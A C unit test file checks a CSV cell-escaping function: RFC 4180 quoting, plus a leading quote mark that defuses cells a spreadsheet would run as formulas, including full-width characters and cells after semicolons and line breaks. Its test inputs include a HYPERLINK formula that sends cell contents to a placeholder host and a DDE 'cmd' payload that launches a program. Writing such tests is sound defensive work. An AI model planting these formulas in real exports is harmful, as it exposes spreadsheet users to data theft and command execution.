/* test_csv_cell.c -- a CSV text field: ordinary text unchanged, RFC 4180 quoting where a
 * separator, quote or line break needs it, and a single quote in front of every text a
 * spreadsheet would run as a formula (each leading character OWASP lists, the full-width
 * ones, and the same after a semicolon or a line break). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdlib.h>
#include <cmocka.h>

#include "domain/csv_cell.h"

static void expect_cell(const char *text, const char *want)
{
    char *got = csv_cell(text);
    assert_string_equal(got, want);
    free(got);
}

static void ordinary_text_unchanged(void **state)
{
    (void)state;
    expect_cell(NULL, "");
    expect_cell("", "");
    expect_cell("HT-2026-000101", "HT-2026-000101");
    expect_cell("Thiếu giáo viên Tiếng Anh khối 3", "Thiếu giáo viên Tiếng Anh khối 3");
    expect_cell("1+1=2 ở giữa", "1+1=2 ở giữa");         /* only the start counts */
    expect_cell("a-b@c", "a-b@c");
    expect_cell(" =1+2", " =1+2");                    /* a space first is text */
    expect_cell("'=1+2", "'=1+2");                    /* already text to a spreadsheet */
}

static void rfc4180_quoting(void **state)
{
    (void)state;
    expect_cell("Thiếu phòng học, cần gấp", "\"Thiếu phòng học, cần gấp\"");
    expect_cell("Lớp \"1A\"", "\"Lớp \"\"1A\"\"\"");
    expect_cell("\"", "\"\"\"\"");
    expect_cell("dòng 1\ndòng 2", "\"dòng 1\ndòng 2\"");
    expect_cell("dòng 1\r\ndòng 2", "\"dòng 1\r\ndòng 2\"");
    expect_cell("a\tb", "\"a\tb\"");
    expect_cell("a;b", "\"a;b\"");                    /* a semicolon-splitting reader */
}

/* Every leading character OWASP names, each alone and with a payload after it. */
static void formula_starts_guarded(void **state)
{
    (void)state;
    expect_cell("=HYPERLINK(\"http://x.invalid/?\"&A1,\"Xem\")",
                "\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"Xem\"\")\"");
    expect_cell("=1+2", "\"'=1+2\"");
    expect_cell("+1+2", "\"'+1+2\"");
    expect_cell("-1+2", "\"'-1+2\"");
    expect_cell("@SUM(A1:A9)", "\"'@SUM(A1:A9)\"");
    expect_cell("\t=1+2", "\"'\t=1+2\"");
    expect_cell("\r=1+2", "\"'\r'=1+2\"");      /* and again after the break */
    expect_cell("=", "\"'=\"");
    expect_cell("+", "\"'+\"");
    expect_cell("-", "\"'-\"");
    expect_cell("@", "\"'@\"");
    expect_cell("\t", "\"'\t\"");
    expect_cell("\r", "\"'\r\"");
    expect_cell("=cmd|'/c calc'!A1", "\"'=cmd|'/c calc'!A1\"");
}

static void wide_formula_starts_guarded(void **state)
{
    (void)state;
    expect_cell("\xEF\xBC\x9D" "1+2", "\"'\xEF\xBC\x9D" "1+2\"");   /* ＝ */
    expect_cell("\xEF\xBC\x8B" "1", "\"'\xEF\xBC\x8B" "1\"");       /* ＋ */
    expect_cell("\xEF\xBC\x8D" "1", "\"'\xEF\xBC\x8D" "1\"");       /* － */
    expect_cell("\xEF\xBC\xA0" "A1", "\"'\xEF\xBC\xA0" "A1\"");     /* ＠ */
    expect_cell("\xEF\xBC\x91", "\xEF\xBC\x91");                    /* １: a digit */
}

static void guarded_after_semicolon(void **state)
{
    (void)state;
    expect_cell("Phòng học;=1+2", "\"Phòng học;'=1+2\"");
    expect_cell("a;-1;b", "\"a;'-1;b\"");
    expect_cell("a;\"=1+2\"", "\"a;'\"\"=1+2\"\"\"");
    expect_cell("a; =1", "\"a; =1\"");
    expect_cell("a;", "\"a;\"");
    expect_cell("=a;@b", "\"'=a;'@b\"");
}

static void guarded_after_line_break(void **state)
{
    (void)state;
    expect_cell("x\n=1+1;y", "\"x\n'=1+1;y\"");
    expect_cell("x\r\n@A1", "\"x\r\n'@A1\"");
    expect_cell("x\r-1", "\"x\r'-1\"");
    expect_cell("x\n\"=1\"", "\"x\n'\"\"=1\"\"\"");
    expect_cell("x\nb", "\"x\nb\"");
}

static void starts_formula_answers(void **state)
{
    (void)state;
    const char *yes[] = {"=", "+", "-", "@", "\t", "\r", "\xEF\xBC\x9D"};
    for (size_t i = 0; i < sizeof yes / sizeof *yes; i++)
        assert_true(csv_starts_formula(yes[i]));
    const char *no[] = {"", "a", " =", "\n", "'", "\"", "\xEF\xBC", "\xEF\xBC\x91"};
    for (size_t i = 0; i < sizeof no / sizeof *no; i++)
        assert_false(csv_starts_formula(no[i]));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(ordinary_text_unchanged),
        cmocka_unit_test(rfc4180_quoting),
        cmocka_unit_test(formula_starts_guarded),
        cmocka_unit_test(wide_formula_starts_guarded),
        cmocka_unit_test(guarded_after_semicolon),
        cmocka_unit_test(guarded_after_line_break),
        cmocka_unit_test(starts_formula_answers),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
